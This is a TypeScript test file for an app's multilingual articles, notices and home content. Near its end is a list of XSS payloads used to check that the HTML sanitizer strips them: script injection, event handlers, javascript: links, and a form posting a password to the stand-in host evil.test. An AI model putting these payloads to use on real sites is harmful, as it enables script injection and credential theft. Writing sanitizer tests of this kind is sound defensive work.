import { readdirSync } from 'node:fs'
import path from 'node:path'

import { markNoticeRead } from '@btbc/contract/account.ts'
import {
  listArticles,
  readArticle as readArticleCall,
  readHomeContent,
} from '@btbc/contract/news.ts'
import { say, textsOf } from '@btbc/contract/texts.ts'
import { languages, type Language } from '@btbc/contract/wire.ts'
import { expect, test } from 'vitest'

import { type ArticleName, articles } from './content/content.ts'
import { readArticle as readFile } from './content/read-article.ts'
import { safeHtml } from './html.ts'
import { renderMarkdown } from './markdown.ts'
import { countUnreadNotices } from './news.ts'
import { ok, refusal, startTestServer } from '#testing/server.ts'

const names = Object.keys(articles) as ArticleName[]
function readArticle(language: Language, name: ArticleName) {
  const { body, ...front } = readFile(language, name)
  return { ...front, html: renderMarkdown(body) }
}

/** What the product says on its first day, in every language. */
const written = languages.flatMap((language) => names.map((name) => readArticle(language, name)))

const slugs = [
  ...(['info', 'info1', 'info2', 'info3', 'info4', 'about', 'terms', 'white-paper'] as const),
  ...(['rules', 'activities', 'funds', 'miner-funds'] as const),
]

test('every article speaks every language, and no two languages say the same', async () => {
  const server = await startTestServer()
  for (const { id } of Object.values(articles)) {
    const told = new Set<string>()
    for (const lang of languages) {
      const { title, content: html } = ok(await server.call(readArticleCall, { id, lang }))
      expect(title).not.toBe('')
      expect(html).toMatch(/^<(p|h2|ul)>/)
      told.add(html)
    }
    expect(told.size).toBe(languages.length)
  }
})

test('a translation has the headings, items, links and numbers of the English text', () => {
  const amounts = (text: string) =>
    [...text.matchAll(/(\d[\d.,]*)\s?(BTBC|USDT|USD|BTC|BNB|%)/g)]
      .map(([, number = '', unit]) => `${number.replaceAll(/\D/g, '')} ${unit}`)
      .toSorted()
  const tags = (html: string) => html.match(/<[^>]+>/g)?.toSorted()
  for (const name of names) {
    const english = readArticle('en', name)
    for (const language of languages) {
      const { html } = readArticle(language, name)
      expect([name, language, tags(html)]).toEqual([name, language, tags(english.html)])
      expect([name, language, amounts(html)]).toEqual([name, language, amounts(english.html)])
    }
  }
})

test('the first articles link to screens of the app', () => {
  const screens = '/about#proof /Kefu /share /shop /whitePaper /info1 /info2 /info3'.split(' ')
  const links = written.flatMap(({ html }) => [...html.matchAll(/href="([^"]+)"/g)])
  expect(new Set(links.map(([, address]) => address))).toEqual(new Set(screens))
})

test('no text promises a profit or shouts', () => {
  const banners = languages.map((language) => textsOf(language, 'news'))
  expect(JSON.stringify([written, banners]).replaceAll(/<[^>]+>/g, '')).not.toMatch(
    /[!！]|guarantee|profit|hurry|coming soon|garantiz|ganancia segura|lucro/i,
  )
})

test('every file is an article with a title and a summary', () => {
  for (const { title, summary } of written) expect([title, summary]).not.toContain('')
  const files = names.map((name) => `${name}.md`).toSorted()
  for (const language of languages) {
    expect(readdirSync(path.join(import.meta.dirname, 'content', language))).toEqual(files)
  }
})

test('the notices come highest first, unread until the member reads them', async () => {
  const server = await startTestServer()
  const alice = await server.join('alice@example.com')
  const unread = async () =>
    await server.db
      .transaction()
      .execute(
        async (tx) => await countUnreadNotices(tx, { memberId: alice.id, now: server.clock.now() }),
      )
  const list = async () => ok(await server.call(listArticles, { c_id: 4 }, { as: alice })).list

  expect((await list()).map(({ id, read }) => [id, read])).toEqual([
    [303, false],
    [301, false],
    [302, false],
  ])
  expect(await unread()).toBe(3)

  ok(await server.call(markNoticeRead, { id: 301 }, { as: alice }))
  ok(await server.call(markNoticeRead, { id: 301 }, { as: alice }))

  expect((await list()).map(({ read }) => read)).toEqual([false, true, false])
  expect(await unread()).toBe(2)
  const others = ok(await server.call(listArticles, { c_id: 4 })).list
  expect(others.every(({ read }) => !read)).toBe(true)
})

test('only a notice can be read, and only by a member', async () => {
  const server = await startTestServer()
  const alice = await server.join('alice@example.com')
  const read = async (id: number) =>
    refusal(await server.call(markNoticeRead, { id }, { as: alice }))
  expect(await read(999)).toBe('article_not_found')
  expect(await read(articles.opening.id)).toBe('article_not_found')
  expect(refusal(await server.call(markNoticeRead, { id: 301 }))).toBe('login_required')
})

test('a list is paged, and an unknown category is empty', async () => {
  const server = await startTestServer()
  const page = async (number: number) =>
    ok(await server.call(listArticles, { c_id: 5, limit: 2, page: number }))
  const first = await page(1)
  const second = await page(2)
  expect([first.list.length, second.list.length, (await page(3)).list.length]).toEqual([2, 1, 0])
  expect([first.total, first.page, first.limit]).toEqual([3, 1, 2])
  expect(new Set([...first.list, ...second.list].map(({ id }) => id)).size).toBe(3)
  expect(ok(await server.call(listArticles, { c_id: 77 }))).toMatchObject({ list: [], total: 0 })
})

test('what is not a category, a page or an article is refused', async () => {
  const server = await startTestServer()
  const detail = async (request: object) => refusal(await server.call(readArticleCall, request))
  expect(await detail({ id: 999 })).toBe('article_not_found')
  expect(await detail({})).toBe('article_not_found')
  expect(await detail({ id: 156, slug: 'info' })).toBe('article_not_found')
  expect(await detail({ slug: 'secret' })).toBe('invalid_request')
  expect(await detail({ id: -1 })).toBe('invalid_request')
  expect(await detail({ id: 156, lang: 'xx' })).toBe('invalid_request')
  const list = async (request: { c_id: number; limit?: number }) =>
    refusal(await server.call(listArticles, request))
  expect(await list({ c_id: 0 })).toBe('invalid_request')
  expect(await list({ c_id: 4, limit: 201 })).toBe('invalid_request')
})

test('a page is found by its slug and by the ids of the seeds', async () => {
  const server = await startTestServer()
  const title = async (request: { id?: number; slug?: (typeof slugs)[number] }) =>
    ok(await server.call(readArticleCall, request)).title
  for (const slug of slugs) expect(await title({ slug })).not.toBe('')
  expect(await title({ id: 156 })).toBe(await title({ slug: 'funds' }))
  expect(await title({ id: 196 })).toBe(await title({ slug: 'miner-funds' }))
  expect(await title({ id: 163 })).toBe(await title({ id: 181 }))
  expect(await title({ id: 165 })).toBe(await title({ id: 182 }))
  expect(await title({ id: 180 })).toBe(await title({ slug: 'rules' }))
})

test('the language of the body wins over the header, and English is the last resort', async () => {
  const server = await startTestServer()
  const title = async (lang: Language | undefined, headers: Record<string, string>) =>
    ok(await server.call(readArticleCall, { id: 301, lang }, { headers })).title
  const titleIn = (language: Language) => readArticle(language, 'how-runs-work').title
  expect(await title('zh', { lang: 'jp' })).toBe(titleIn('zh'))
  expect(await title(undefined, { lang: 'jp' })).toBe(titleIn('jp'))
  expect(await title(undefined, { 'accept-language': 'pt-BR' })).toBe(titleIn('bx'))
  expect(await title(undefined, { lang: 'xx' })).toBe(titleIn('en'))
})

test('home has three banners, the notices and eight contacts in every language', async () => {
  const server = await startTestServer()
  for (const lang of languages) {
    const home = ok(await server.call(readHomeContent, { lang }))
    expect(home.banners.map(({ to }) => to)).toEqual(['/share', '/assets3', '/Kefu'])
    const said = ['banner.share', 'banner.wallet', 'banner.support'] as const
    expect(home.banners.map(({ alt }) => alt)).toEqual(said.map((key) => say(lang, 'news', key)))
    expect(home.ticker.map(({ id }) => id)).toEqual([303, 301, 302])
    expect(home.contacts).toHaveLength(8)
    for (const { name, url } of home.contacts) {
      expect(name).toContain('TEST')
      expect(url).toMatch(/^(https:\/\/(t|wa)\.me\/|mailto:[\w-]+@btbc\.test$)/)
    }
  }
})

/** What came in, and nothing of it may come out. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.test/pixel.gif">',
  '<img src="//evil.test/pixel.gif">',
  '<img src="/media/../api/x">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="http://evil.test">x</a>',
  '<p onclick="alert(1)" style="position:fixed;inset:0">x</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.test"><input name=password><button>x</button></form>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<template><script>alert(1)</script></template>',
]

test('an article keeps its text and loses whatever could act', () => {
  for (const attack of attacks) {
    const html = safeHtml(`<p>Before</p>${attack}<p>After</p>`)
    expect([attack, html]).toEqual([attack, expect.stringContaining('<p>Before</p>')])
    expect([attack, actingParts(html)]).toEqual([attack, []])
    expect([attack, actingParts(inMarkdown(attack))]).toEqual([attack, []])
  }
})

/** Nothing, where the whole text is refused. */
function inMarkdown(attack: string): string {
  try {
    const html = renderMarkdown(`Before\n\n${attack}\n\nx ${attack}`)
    expect(html).toContain('<p>Before</p>')
    return html
  } catch (error) {
    expect(error).toMatchObject({ code: 'article_address' })
    return ''
  }
}

test('links, tables and own pictures survive; a link away opens apart', async () => {
  const kept =
    '<h2>T</h2><p><strong>a</strong> <em>b</em> <a href="/info1">in</a></p>' +
    '<ul><li>1</li></ul><table><tbody><tr><th scope="row">x</th><td>y</td></tr></tbody></table>' +
    '<img src="/media/article-run.svg" alt="run" />'
  expect(safeHtml(kept)).toBe(kept)
  expect(safeHtml('<a href="https://example.org/" onclick="x()">out</a>')).toBe(
    '<a href="https://example.org/" rel="noopener noreferrer" target="_blank">out</a>',
  )
})

/** Tags and attributes outside the allow-list, and addresses that are not ours or https. */
function actingParts(html: string): string[] {
  const tags = [...html.matchAll(/<\/?([a-z]+)((?:\s[^<>]*)?)>/gi)]
  const foreign = tags.filter(
    ([, tag = '']) => !/^(h2|p|br|ul|li|strong|em|a|img|table|tbody|tr|th|td)$/.test(tag),
  )
  const attributes = tags.flatMap(([, , all = '']) => [...all.matchAll(/([\w-]+)="([^"]*)"/g)])
  const acting = attributes.filter(
    ([, name = '', value = '']) =>
      !/^(href|rel|target|alt|src)$/.test(name) ||
      (/^(href|src)$/.test(name) && !/^(https:\/\/|mailto:|\/(?!\/))/.test(value)) ||
      (name === 'src' && /evil|\.\./.test(value)),
  )
  return [...foreign, ...acting].map(([whole]) => whole)
}
